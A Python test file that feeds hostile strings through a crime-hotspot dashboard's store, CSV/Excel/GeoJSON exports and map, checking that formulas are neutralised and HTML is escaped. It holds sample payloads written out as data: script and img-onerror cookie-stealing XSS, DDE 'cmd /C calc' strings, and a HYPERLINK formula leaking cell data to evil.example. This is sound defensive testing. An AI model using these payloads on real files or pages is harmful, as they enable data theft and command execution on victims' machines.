"""Hostile strings — HTML, script and spreadsheet formulas — in ward, local authority and
police force names, crime types and locations, followed from the files through the store,
the ward counts and the hotspot list to every download and the map.

What must hold: the strings are kept as data (exactly as given, never run or parsed); in
CSV and Excel downloads a text cell starting with ``=``, ``+``, ``-`` or ``@`` is
neutralised with a leading apostrophe (so Excel shows text, never a formula); on the map,
tooltip values are HTML-escaped and the embedded GeoJSON cannot close the ``<script>``
it sits in. Tables in the dashboard are ``st.dataframe``/``st.table``, which Streamlit
renders as text (cells are never parsed as HTML or Markdown), so they need no escaping
of their own; ``st.error``/``st.markdown`` messages escape HTML too (``unsafe_allow_html``
is never set on user data) — see tests/test_corpus.py::test_upload_page for a file name
with HTML in it.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re

import geopandas as gpd
import openpyxl
import pytest
from shapely.geometry import box

from dashboard import maps
from hotspots import mapping
from hotspots.analysis import AnalysisSettings, analyse, hotspot_list
from hotspots.dataset import Selection, load_ward_data
from hotspots.exports import (
    FORMULA_START,
    hotspot_list_csv,
    hotspot_list_excel,
    hotspot_list_geojson,
    ward_counts_csv,
)
from hotspots.ingest import load_paths
from hotspots.store import Store
from tests.conftest import (
    GRID_LSOA11,
    GRID_LSOA21,
    GRID_POPULATION,
    GRID_WARDS,
    POLICE_UK_HEADER,
    X0,
    Y0,
    police_row,
    write_csv,
)

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(document.cookie)">'
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
CMD = "+cmd|' /C calc'!A0"
MINUS = "-1+1"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
#: Ward code → hostile ward name.
WARD_NAMES = {"X05000001": SCRIPT, "X05000002": IMG, "X05000003": HYPERLINK,
              "X05000004": CMD}
LA_NAMES = {"X06000001": MINUS, "X06000002": AT}
FORCE_NAME = "=1+2</script><script>alert('force')</script>"
CRIME_TYPE = "<script>alert('type')</script>=1+1"
LOCATION = '=HYPERLINK("http://evil.example","On or near <b>Evil</b> Street")'
FORMULAS = {HYPERLINK, CMD, MINUS, AT, FORCE_NAME}


def _write_reference(folder, names=WARD_NAMES, la_names=LA_NAMES, force=FORCE_NAME):
    folder.mkdir(parents=True, exist_ok=True)
    codes = list(GRID_WARDS)
    gdf = gpd.GeoDataFrame(
        {"WD22CD": codes, "WD22NM": [names[c] for c in codes],
         "LAD22CD": [GRID_WARDS[c][1] for c in codes],
         "LAD22NM": [la_names[GRID_WARDS[c][1]] for c in codes]},
        geometry=[box(X0 + v[3], Y0 + v[4], X0 + v[3] + 1000, Y0 + v[4] + 1000)
                  for v in GRID_WARDS.values()], crs="EPSG:27700")
    paths = [folder / "wards.gpkg"]
    gdf.to_file(paths[0], driver="GPKG")
    paths.append(write_csv(
        folder / "lsoa21_ward22.csv",
        ["LSOA21CD", "WD22CD", "WD22NM", "LAD22CD", "LAD22NM"],
        [[lsoa, ward, names[ward], GRID_WARDS[ward][1], la_names[GRID_WARDS[ward][1]]]
         for lsoa, ward in GRID_LSOA21.items()]))
    paths.append(write_csv(folder / "lsoa11_lsoa21.csv",
                           ["lsoa11_code", "change_code", "lsoa21_code"],
                           [[a, c, b] for a, c, b in GRID_LSOA11]))
    paths.append(write_csv(folder / "lad_pfa.csv",
                           ["ltla24_code", "ltla24_name", "pfa24_code", "pfa24_name"],
                           [[la, name, "X15000001", force] for la, name in la_names.items()]))
    paths.append(write_csv(folder / "population_mid2022_lsoa11.csv",
                           ["lsoa11_code", "total_population"],
                           [[k, v] for k, v in GRID_POPULATION.items()]))
    return paths


def _crimes(folder):
    rows, i = [], 0
    for n, lsoa in zip((9, 6, 4, 2, 5, 3), GRID_LSOA21, strict=True):
        for k in range(n):
            ctype = ("Violence and sexual offences", "Robbery", "Drugs")[k % 3]
            rows.append(police_row(f"c{i:03d}", lsoa=lsoa, ctype=ctype))
            i += 1
    for k, lsoa in enumerate(GRID_LSOA21):  # hostile crime type and location
        row = police_row(f"h{k:03d}", lsoa=lsoa, ctype=CRIME_TYPE)
        row[POLICE_UK_HEADER.index("Location")] = LOCATION
        row[POLICE_UK_HEADER.index("LSOA name")] = IMG
        rows.append(row)
    for row in rows:  # the force the rows name is the lookup's (hostile) force
        row[2] = row[3] = FORCE_NAME
    return write_csv(folder / "2023-01-grid-street.csv", POLICE_UK_HEADER, rows)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    store = Store(root / "store")
    load_paths(store, "auto", _write_reference(root / "reference"))
    load_paths(store, "crimes", [_crimes(root / "crimes")])
    data = load_ward_data(store, Selection("2023-01", "2023-01"))
    result = analyse(data.counts, data.monthly, data.wards,
                     AnalysisSettings(uncertainty_draws=200),
                     lsoa_deprivation=data.lsoa_deprivation, lsoa_weights=data.lsoa_weights,
                     harm=data.harm)
    table = hotspot_list(result, "police-uk-proxy (proxy)")
    return store, data, table


def _neutral(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_START) else value


def _assert_no_live_formula(cells) -> None:
    """No text cell may start like a formula, unless it is a plain number (``-2``)."""
    for cell in cells:
        if isinstance(cell, str) and cell.startswith(FORMULA_START):
            assert re.fullmatch(r"-\d+(\.\d+)?(e[+-]?\d+)?", cell), f"live formula: {cell!r}"


def test_strings_are_stored_as_given(hostile):
    store, data, _ = hostile
    wards = store.geography().wards.set_index("ward_code")
    assert wards["ward_name"].to_dict() == WARD_NAMES
    assert set(wards["local_authority_name"]) == set(LA_NAMES.values())
    assert set(wards["police_force"]) == {FORCE_NAME}
    crimes = store.crimes()
    assert (crimes["crime_type"] == CRIME_TYPE).sum() == len(GRID_LSOA21)
    # police.uk's Location and LSOA name are not kept at all
    text = [str(v) for v in crimes.to_numpy().ravel()]
    assert not any(LOCATION in t or IMG in t for t in text)
    assert data.counts.set_index("ward_code")["ward_name"].to_dict() == WARD_NAMES
    assert int(data.counts["sv_count"].sum()) > 0


def test_ward_counts_csv_neutralises_formulas(hostile):
    _, data, _ = hostile
    rows = list(csv.DictReader(io.StringIO(ward_counts_csv(data).decode("utf-8"))))
    by_code = {r["ward_code"]: r for r in rows}
    for code, name in WARD_NAMES.items():
        assert by_code[code]["ward_name"] == _neutral(name)
    assert {r["local_authority_name"] for r in rows} == {_neutral(v) for v in LA_NAMES.values()}
    assert {r["police_force"] for r in rows} == {"'" + FORCE_NAME}
    assert by_code["X05000001"]["ward_name"] == SCRIPT  # text in a CSV, not HTML
    _assert_no_live_formula(v for r in rows for v in r.values())


def test_hotspot_list_csv_neutralises_formulas(hostile):
    _, _, table = hostile
    assert set(table["ward_name"]) == set(WARD_NAMES.values())
    rows = list(csv.DictReader(io.StringIO(hotspot_list_csv(table).decode("utf-8"))))
    assert len(rows) == len(WARD_NAMES)
    assert {r["ward_name"] for r in rows} == {_neutral(v) for v in WARD_NAMES.values()}
    assert {r["local_authority_name"] for r in rows} == {_neutral(v) for v in LA_NAMES.values()}
    _assert_no_live_formula(v for r in rows for v in r.values())


def test_hotspot_list_excel_holds_no_formula(hostile):
    _, data, table = hostile
    book = openpyxl.load_workbook(io.BytesIO(hotspot_list_excel(table, data.metadata())))
    values = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    sheet = book["Hotspots"]
    header = [c.value for c in sheet[1]]
    names = [r[header.index("ward_name")] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert set(names) == {_neutral(v) for v in WARD_NAMES.values()}
    assert HYPERLINK not in values and "'" + HYPERLINK in values
    _assert_no_live_formula(values)


def test_geojson_download_carries_the_text_as_data(hostile):
    _, data, table = hostile
    doc = json.loads(hotspot_list_geojson(table, data.wards))
    names = {f["properties"]["ward_name"] for f in doc["features"]}
    # GeoJSON is data for GIS: the text goes as it is (JSON-escaped), for the reader to
    # show as text; it is not a spreadsheet, so nothing is prefixed.
    assert names == set(WARD_NAMES.values())


def _map_page(data) -> str:
    """The map as the Map page draws it: every shipped property but the fill colour is a
    tooltip field."""
    display = mapping.display_geometry(data.wards)
    shapes = display.merge(data.counts[["ward_code", "sv_count"]], on="ward_code")
    shapes = shapes.assign(fill="#fd8d3c", value=shapes["ward_name"])
    fields = [("ward_name", "Ward"), ("local_authority_name", "Local authority"),
              ("police_force", "Force"), ("sv_count", "Serious violence"),
              ("value", "<i>Shown</i>")]
    geojson = mapping.to_geojson(shapes, [f for f, _ in fields] + ["fill"])
    m = maps.ward_map(geojson, "fill", [(SCRIPT, "#fd8d3c")], fields,
                      {"name": "Drug offences: top 12 wards", "ward_codes": list(WARD_NAMES)},
                      legend_title=IMG)
    return maps.map_html(m)


def _unjson(page: str) -> str:
    """The page with the JSON escapes folium's ``tojson`` adds undone (what the browser's
    JavaScript sees once it has parsed the embedded GeoJSON)."""
    for code, char in (("\\u003c", "<"), ("\\u003e", ">"), ("\\u0026", "&"),
                       ("\\u0027", "'"), ('\\"', '"')):
        page = page.replace(code, char)
    return page


def test_map_escapes_names_in_tooltips_legend_and_payload(hostile):
    _, data, _ = hostile
    page = _map_page(data)
    # What the browser parses as HTML, and what the tooltip then puts in innerHTML:
    for text in (page, _unjson(page)):
        for raw in (SCRIPT, IMG, "<script>alert('force')", "<img", "<i>Shown"):
            assert raw not in text
    # as many <script> elements as a map of harmless names: nothing was injected
    benign = {c: f"Ward {i}" for i, c in enumerate(WARD_NAMES)}
    safe = data.wards.assign(ward_name=data.wards["ward_code"].map(benign),
                             local_authority_name="LA", police_force="Force")
    plain = _map_page(type(data)(**{**data.__dict__, "wards": safe}))
    assert page.count("<script") == plain.count("<script")
    assert page.lower().count("</script") == plain.lower().count("</script")
    # tooltip values and legend labels arrive HTML-escaped
    assert html.escape(SCRIPT) in _unjson(page) and html.escape(IMG) in _unjson(page)


def test_map_geojson_keeps_names_exact(hostile):
    """``hotspots.mapping.to_geojson`` is the payload, not the page: names stay exact
    (escaping is the page's job, done by ``dashboard.maps.ward_map``)."""
    _, data, _ = hostile
    display = mapping.display_geometry(data.wards)
    geojson = mapping.to_geojson(display, ["ward_name", "local_authority_name"])
    assert {f["properties"]["ward_name"] for f in geojson["features"]} == set(
        WARD_NAMES.values())
    json.dumps(geojson)  # valid JSON
